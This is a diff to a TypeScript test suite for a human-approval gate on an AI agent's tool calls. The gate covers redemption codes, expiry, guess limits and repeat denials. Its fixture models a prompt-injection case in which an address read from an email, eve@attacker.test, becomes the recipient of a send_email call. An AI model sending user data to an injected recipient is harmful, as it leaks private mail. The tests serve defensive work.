@@ -21,6 +21,9 @@ const NEW: NewApproval = {
     sources: [{ message: 3, tool: 'read_mail', field: 'mails.ann@example.test', start: 4, end: 30, as: 'prose' }],
     ordered: true,
   },
+  value: 'eve@attacker.test',
+  policyRule: 'recipients',
+  reason: 'Rule "recipients" of the policy: the argument "to" is not from user.',
   call: { id: 'call_1', name: 'send_email', arguments: '{"to": "eve@attacker.test"}' },
 };
 
@@ -78,10 +81,10 @@ describe('a tool call that waits', () => {
   it('is released by its code once, with any case and separators, in its session only', async () => {
     const { approvals, ask, changed, store } = world();
     const { code } = await ask();
-    expect(await approvals.redeem('key_2', 'chat', code)).toBeUndefined();
-    expect(await approvals.redeem('key_1', 'other', code)).toBeUndefined();
-    expect(await approvals.redeem('key_1', 'chat', code.replace('-', ' ').toLowerCase())).toEqual(NEW.call);
-    expect(await approvals.redeem('key_1', 'chat', code)).toBeUndefined();
+    expect(await approvals.redeem('key_2', 'chat', [code])).toEqual([]);
+    expect(await approvals.redeem('key_1', 'other', [code])).toEqual([]);
+    expect(await approvals.redeem('key_1', 'chat', [code.replace('-', ' ').toLowerCase()])).toEqual([NEW.call]);
+    expect(await approvals.redeem('key_1', 'chat', [code])).toEqual([]);
     expect(store.events).toMatchObject([
       {},
       { type: 'tool.approval_decided', data: { state: 'used', decidedBy: 'user' } },
@@ -99,11 +102,22 @@ describe('a tool call that waits', () => {
     expect((await ask()).state).toBe('pending');
   });
 
+  it('is released with others by one message, and denied by its code', async () => {
+    const { approvals, ask, store } = world();
+    const calls = ['a', 'b', 'c'].map((to) => ({ ...NEW.call, arguments: JSON.stringify({ to }) }));
+    const codes: string[] = [];
+    for (const call of calls) codes.push((await ask({ call })).code);
+    await approvals.deny('key_1', 'chat', codes.slice(2));
+    expect(store.events.at(-1)).toMatchObject({ data: { state: 'denied', decidedBy: 'user' } });
+    expect(await ask({ call: calls[2] as NewApproval['call'] })).toMatchObject({ state: 'denied' });
+    expect(await approvals.redeem('key_1', 'chat', ['AAAA-AAAA', ...codes])).toEqual(calls.slice(0, 2));
+  });
+
   it('can be released by its code after it is approved, once in all', async () => {
     const { approvals, ask, decide } = world();
     const { id, code } = await ask();
     await decide(id, 'approved');
-    expect(await approvals.redeem('key_1', 'chat', code)).toEqual(NEW.call);
+    expect(await approvals.redeem('key_1', 'chat', [code])).toEqual([NEW.call]);
     expect((await ask()).state).toBe('pending');
   });
 
@@ -112,9 +126,24 @@ describe('a tool call that waits', () => {
     const { id, code } = await ask();
     await decide(id, 'denied');
     expect(await ask()).toMatchObject({ state: 'denied', id });
-    expect(await approvals.redeem('key_1', 'chat', code)).toBeUndefined();
+    expect(await approvals.redeem('key_1', 'chat', [code])).toEqual([]);
     clock.time += VALID_MS;
     expect((await ask()).state).toBe('pending');
+  });
+
+  it('is denied in other words too: the same tool and the same doubtful value', async () => {
+    const { ask, decide } = world();
+    const { id } = await ask();
+    await decide(id, 'denied');
+    const call = { ...NEW.call, arguments: '{"to":" EVE@attacker.test","body":"Please."}' };
+    expect(await ask({ call, value: ' EVE@attacker.test' })).toMatchObject({ state: 'denied', id });
+    const others: Partial<NewApproval>[] = [
+      { value: 'eve@attacker.example' },
+      { sessionId: 'other' },
+      { origin: { ...NEW.origin, argument: 'cc' } },
+      { call: { ...call, name: 'forward' } },
+    ];
+    for (const other of others) expect((await ask({ call, ...other })).state).toBe('pending');
   });
 
   it('expires after an hour, approved or not', async () => {
@@ -124,19 +153,19 @@ describe('a tool call that waits', () => {
     clock.time += VALID_MS - 1;
     expect((await ask({ sessionId: 'other' })).state).toBe('pending');
     clock.time += 1;
-    expect(await approvals.redeem('key_1', 'chat', first.code)).toBeUndefined();
+    expect(await approvals.redeem('key_1', 'chat', [first.code])).toEqual([]);
     expect((await ask()).state).toBe('pending');
   });
 
   it('is not released to a client that guesses: ten wrong codes an hour, of sessions in which a call waits', async () => {
     const { approvals, ask, store } = world();
-    expect(await approvals.redeem('key_1', 'chat', 'AAAA-AAAA')).toBeUndefined();
+    expect(await approvals.redeem('key_1', 'chat', ['AAAA-AAAA'])).toEqual([]);
     expect(store.guesses.size).toBe(0);
     const { code } = await ask();
-    for (let at = 0; at < 10; at += 1) await approvals.redeem('key_1', 'chat', 'AAAA-AAAA');
-    expect(await approvals.redeem('key_1', 'chat', code)).toBeUndefined();
+    for (let at = 0; at < 10; at += 1) await approvals.redeem('key_1', 'chat', ['AAAA-AAAA']);
+    expect(await approvals.redeem('key_1', 'chat', [code])).toEqual([]);
     store.guesses.clear();
-    expect(await approvals.redeem('key_1', 'chat', code)).toEqual(NEW.call);
+    expect(await approvals.redeem('key_1', 'chat', [code])).toEqual([NEW.call]);
     expect(store.guesses.get('key_1')).toBe(0);
   });
 
@@ -148,7 +177,7 @@ describe('a tool call that waits', () => {
     };
     Object.assign(store, { find: fail, ofSession: fail });
     expect(await approvals.request(NEW)).toEqual({ state: 'unavailable' });
-    expect(await approvals.redeem('key_1', 'chat', code)).toBeUndefined();
+    expect(await approvals.redeem('key_1', 'chat', [code])).toEqual([]);
     const call = { ...NEW.call, arguments: 'x'.repeat(65_537) };
     expect(await world().approvals.request({ ...NEW, call })).toEqual({ state: 'unavailable' });
   });
@@ -189,7 +218,7 @@ describe('codes in a text', () => {
     ['K7M2 9QXR', ['K7M2 9QXR']],
     ['send that transfer', []],
     ['id 4c8e2b7a-5d6f-4a3b-9c2d-1e2f3a4b5c6d', []],
-    ['AAAA-2222 BBBB-2222 CCCC-2222 DDDD-2222', ['AAAA-2222', 'BBBB-2222', 'CCCC-2222']],
+    ['AAAA-2222 '.repeat(12), Array.from({ length: 10 }, () => 'AAAA-2222')],
   ])('are words of their form with a hyphen or a digit: %s', (text, codes) => expect(codesIn(text)).toEqual(codes));
 
   it('are found whatever the hash is', () => {
